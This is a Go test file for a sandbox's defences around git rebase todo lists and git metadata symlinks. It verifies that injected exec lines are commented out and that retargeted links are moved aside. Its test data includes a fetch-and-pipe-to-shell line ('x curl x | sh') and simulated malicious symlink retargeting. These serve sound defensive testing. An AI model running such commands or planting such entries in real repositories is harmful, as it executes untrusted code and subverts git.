//go:build linux

package exec

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

// TestCheckTodos: exec lines added to a todo list since the plan are
// commented out, as git reads them (exec or x, after blanks); those the
// plan found stay, once each; other lines stay as they were; a list
// unchanged says nothing.
func TestCheckTodos(t *testing.T) {
	git := t.TempDir()
	dir := filepath.Join(git, "rebase-merge")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	list := filepath.Join(dir, "git-rebase-todo")
	write := func(s string) {
		if err := os.WriteFile(list, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("pick 1 a\nexec make test\n")
	sec, nsec := changeClockNsec()
	p := planTodos(git, sec, nsec)
	if got := checkTodos(p); got != nil {
		t.Errorf("unchanged: %q", got)
	}
	write("pick 1 a\nexec make test\npick 2 b\nexec make test\n  x curl x | sh\nexecute 1\nxargs\n# exec no\n")
	got := checkTodos(p)
	if len(got) != 1 || !strings.Contains(got[0], "exec make test; x curl x | sh") {
		t.Fatalf("checkTodos = %q", got)
	}
	b, _ := os.ReadFile(list)
	want := "pick 1 a\nexec make test\npick 2 b\n# mewsandbox: exec make test\n# mewsandbox:   x curl x | sh\nexecute 1\nxargs\n# exec no\n"
	if string(b) != want {
		t.Errorf("the list:\n%s\nwant:\n%s", b, want)
	}
	if fi, err := os.Stat(list); err != nil || fi.Mode().Perm() != 0o644 {
		t.Errorf("the list's mode: %v %v", fi, err)
	}
	if got := checkTodos(p); got != nil {
		t.Errorf("commented out already: %q", got)
	}
	q := &plannedTodos{Git: "/p/a:b/.git", Since: 1700000000, Nsec: 123456789, Work: "/p/a:b", Links: [2]string{"", "../x:y"}, Execs: [2][]string{{"exec make test"}, {"exec a", "x b:c"}}}
	q.Files[1] = "../../.repo/projects/x.git/config"
	q.Subs = []plannedSub{{"libs/a:b", devIno{64769, 1234567}}, {"sub", devIno{}}}
	if got := parseTodosArg(strings.TrimPrefix(todosArg(q), "t:")); got == nil || !reflect.DeepEqual(*got, *q) {
		t.Errorf("todosArg read back as %+v, want %+v", got, q)
	}
	q.superAt, q.State, q.StateErr = 2, "/s/mewsandbox/gitlinks/ab:c", "none:here"
	q.Pending = []pendingLink{{Git: "/p/a:b/.git", Work: "/p/a:b", Rel: "deep/s:b", Added: 17}}
	q.writable = []string{"/p/a:b", "/home/u/.local/st\x01ate:x"}
	if got := parseTodosArg(strings.TrimPrefix(todosArg(q), "t:")); got == nil || !reflect.DeepEqual(*got, *q) {
		t.Errorf("todosArg with a state file read back as %+v, want %+v", got, q)
	}
	q.Overlapped = true
	if got := parseTodosArg(strings.TrimPrefix(todosArg(q), "t:")); got == nil || !reflect.DeepEqual(*got, *q) {
		t.Errorf("todosArg of a plan beside another run read back as %+v, want %+v", got, q)
	}
	for _, bad := range []string{"", "::::", "zz::::/g", "::::"} {
		if parseTodosArg(bad) != nil {
			t.Errorf("%q read as todo lists", bad)
		}
	}
}

// TestCheckGitFilesKeepsPlannedLinks: a file git opens following a link
// that is a link after the run is moved aside (a command pointed
// .git/packed-refs at a FIFO outside the root, and git status waited for
// good), but not one the plan found there, leading where it led: Google's
// repo tool makes .git/config, packed-refs and shallow links into .repo,
// which every run had then moved away. Retargeted, it is moved too.
func TestCheckGitFilesKeepsPlannedLinks(t *testing.T) {
	git := t.TempDir()
	elsewhere := t.TempDir()
	for _, f := range []string{"config", "packed-refs", "evil"} {
		if err := os.WriteFile(filepath.Join(elsewhere, f), []byte(f+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	link := func(target, name string) {
		os.Remove(filepath.Join(git, name))
		if err := os.Symlink(target, filepath.Join(git, name)); err != nil {
			t.Fatal(err)
		}
	}
	link(filepath.Join(elsewhere, "config"), "config")
	link(filepath.Join(elsewhere, "packed-refs"), "packed-refs")
	sec, nsec := changeClockNsec()
	p := planTodos(git, sec, nsec)
	if got := checkTodos(p); got != nil {
		t.Errorf("the plan's own links: %q", got)
	}
	if target, err := os.Readlink(filepath.Join(git, "config")); err != nil || target != filepath.Join(elsewhere, "config") {
		t.Errorf("config after the run: %q, %v; want the project's link kept", target, err)
	}
	link(filepath.Join(elsewhere, "evil"), "packed-refs")
	link(filepath.Join(elsewhere, "evil"), "shallow")
	got := checkTodos(p)
	if len(got) != 2 || !strings.Contains(got[0]+got[1], "packed-refs") || !strings.Contains(got[0]+got[1], "shallow") {
		t.Fatalf("a link retargeted and one made: %q; want both moved aside", got)
	}
	for _, name := range []string{"packed-refs", "shallow"} {
		if _, err := os.Lstat(filepath.Join(git, name)); err == nil {
			t.Errorf("%s is still there", name)
		}
	}
}
